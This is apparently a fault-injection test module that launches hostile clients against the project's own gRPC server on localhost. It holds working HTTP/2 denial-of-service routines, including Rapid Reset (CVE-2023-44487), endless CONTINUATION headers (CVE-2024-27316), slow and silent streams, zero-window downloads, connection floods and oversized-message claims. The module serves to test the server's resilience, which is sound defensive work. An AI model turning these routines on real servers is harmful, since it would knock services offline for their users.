"""Clients that mean harm, each a process of its own: `python -m tests.faults.attackers NAME PORT`.

An attacker says `at work` once its attack is under way, and goes on until it is ended.
"""

from __future__ import annotations

import asyncio
import contextlib
import secrets
import struct
import sys
from collections.abc import Callable, Coroutine
from typing import Any

import grpc

from fkd_common.pb import coordinator_pb2 as pb
from fkd_common.pb import types_pb2 as types
from fkd_common.rpc import MAX_CHUNK_BYTES, METHODS, PROTOCOL_VERSION

from .http2 import (
    CONTINUATION,
    DATA,
    END_STREAM,
    HEADERS,
    RST_STREAM,
    Connection,
    header,
    message,
    request_headers,
)

CONNECTIONS, STREAMS = 200, 8

SETUP = types.TaskKey(run_id="run", phase=types.PHASE_SETUP)
STUDENT = types.TaskKey(run_id="run", round=1, phase=types.PHASE_STUDENT)


def say_at_work() -> None:
    print("at work", flush=True)


async def connections(
    port: int, count: int = CONNECTIONS, initial_window: int | None = None
) -> list[Connection]:
    return [await Connection.open(port, initial_window) for _ in range(count)]


async def silent_calls(port: int) -> None:
    """1,600 polls whose request never comes; whoever is cut off calls again."""
    attack = await connections(port)
    for connection in attack:
        for _ in range(STREAMS):
            connection.call("NextTask")
    say_at_work()
    while True:
        await asyncio.sleep(0.1)
        for connection in attack:
            for _ in range(connection.resets):
                connection.call("NextTask")
            connection.resets = 0


async def slow_bodies(port: int) -> None:
    """800 uploads at one byte a second, never ended; whoever is cut off begins again."""
    attack = await connections(port)

    def begin(connection: Connection) -> int:
        stream = connection.call("PutChunk")
        connection.send(DATA, 0, stream, message(MAX_CHUNK_BYTES))
        return stream

    streams = {connection: [begin(connection) for _ in range(4)] for connection in attack}
    say_at_work()
    while True:
        await asyncio.sleep(1.0)
        for connection, open_ones in streams.items():
            for _ in range(connection.resets):
                open_ones.append(begin(connection))
            connection.resets = 0
            for stream in open_ones[-4:]:
                connection.send(DATA, 0, stream, b"x")


async def takes_nothing(port: int) -> None:
    """800 downloads of a megabyte by clients that accept no bytes."""
    session, artifact = _registered(port)
    request = pb.GetChunkRequest(
        session=session, key=SETUP, sha256=artifact.sha256, offset=0, length=MAX_CHUNK_BYTES
    ).SerializeToString()
    attack = await connections(port, initial_window=0)
    for connection in attack:
        for _ in range(4):
            connection.send(DATA, END_STREAM, connection.call("GetChunk"), message(len(request), request))
    say_at_work()
    await asyncio.Event().wait()


async def idle(port: int, count: int = 5000) -> None:
    """Connections that greet and then say nothing."""
    attack = await connections(port, count)
    say_at_work()
    await asyncio.wait([asyncio.create_task(connection.closed.wait()) for connection in attack])


async def rapid_reset(port: int) -> None:
    """Calls that are cancelled as they begin (CVE-2023-44487)."""
    attack = await connections(port, 20)
    say_at_work()
    while True:
        for connection in attack:
            if connection.closed.is_set():
                attack[attack.index(connection)] = await Connection.open(port)
                continue
            for _ in range(100):
                connection.send(RST_STREAM, 0, connection.call("PutChunk"), bytes(4))
            with contextlib.suppress(ConnectionError):
                await connection.writer.drain()
        await asyncio.sleep(0)


async def endless_headers(port: int) -> None:
    """Header blocks that do not end (CVE-2024-27316)."""
    attack = await connections(port, 20)
    for connection in attack:
        connection.send(HEADERS, 0, 1, request_headers("NextTask"))
    say_at_work()
    filler = b"".join(header(f"x-{i}", "y" * 100) for i in range(100))
    while True:
        for index, connection in enumerate(attack):
            if connection.closed.is_set():
                attack[index] = await Connection.open(port)
                attack[index].send(HEADERS, 0, 1, request_headers("NextTask"))
            with contextlib.suppress(ConnectionError):
                connection.send(CONTINUATION, 0, 1, filler)
                await connection.writer.drain()
        await asyncio.sleep(0)


async def flood(port: int) -> None:
    """Whole megabytes of a client nobody knows, four at a time from 200 connections, again and again."""
    blob = secrets.token_bytes(MAX_CHUNK_BYTES)
    request = pb.PutChunkRequest(session=bytes(16), key=STUDENT, sha256=bytes(32), size=len(blob), data=blob)
    await _again_and_again(port, "PutChunk", request.SerializeToString())


async def header_bombs(port: int) -> None:
    """Uploads whose header says that it is 8 GB long, by a client that takes part."""
    session, _ = _registered(port)
    blob = struct.pack("<Q", 8 << 30) + bytes(MAX_CHUNK_BYTES - 8)
    request = pb.PutChunkRequest(session=session, key=STUDENT, sha256=bytes(32), size=len(blob), data=blob)
    await _again_and_again(port, "PutChunk", request.SerializeToString(), connections=20)


async def too_large(port: int) -> None:
    """Messages that say they are 4 GB, and begin to be."""
    attack = await connections(port)
    say_at_work()
    while True:
        for index, connection in enumerate(attack):
            if connection.closed.is_set():
                attack[index] = await Connection.open(port)
            for _ in range(2):
                connection.send(DATA, 0, connection.call("PutChunk"), message(2**32 - 1, bytes(8000)))
            with contextlib.suppress(ConnectionError):
                await connection.writer.drain()
        await asyncio.sleep(0.05)


async def _again_and_again(port: int, method: str, request: bytes, connections: int = CONNECTIONS) -> None:
    options = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1)]

    async def one() -> None:
        async with grpc.aio.insecure_channel(f"127.0.0.1:{port}", options=options) as channel:
            stub = channel.unary_unary(METHODS[method].path)
            while True:
                await asyncio.gather(*(stub(request, timeout=30.0) for _ in range(4)), return_exceptions=True)

    attack = [asyncio.create_task(one()) for _ in range(connections)]
    say_at_work()
    await asyncio.gather(*attack)


def _registered(port: int) -> tuple[bytes, types.ArtifactRef]:
    """A session of a client called "mallory", and an artifact of more than a megabyte."""
    method = METHODS["Register"]
    request = pb.RegisterRequest(protocol_version=PROTOCOL_VERSION, client_name="mallory")
    with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
        answer = channel.unary_unary(method.path)(request.SerializeToString(), timeout=10.0)
    told = pb.RegisterResponse.FromString(answer)
    return told.session, next(item for item in told.artifacts if item.size > MAX_CHUNK_BYTES)


ATTACKS: dict[str, Callable[[int], Coroutine[Any, Any, None]]] = {
    attack.__name__: attack
    for attack in (
        silent_calls, slow_bodies, takes_nothing, idle, rapid_reset, endless_headers, flood, too_large, header_bombs,
    )
}  # fmt: skip


if __name__ == "__main__":
    asyncio.run(ATTACKS[sys.argv[1]](int(sys.argv[2])))
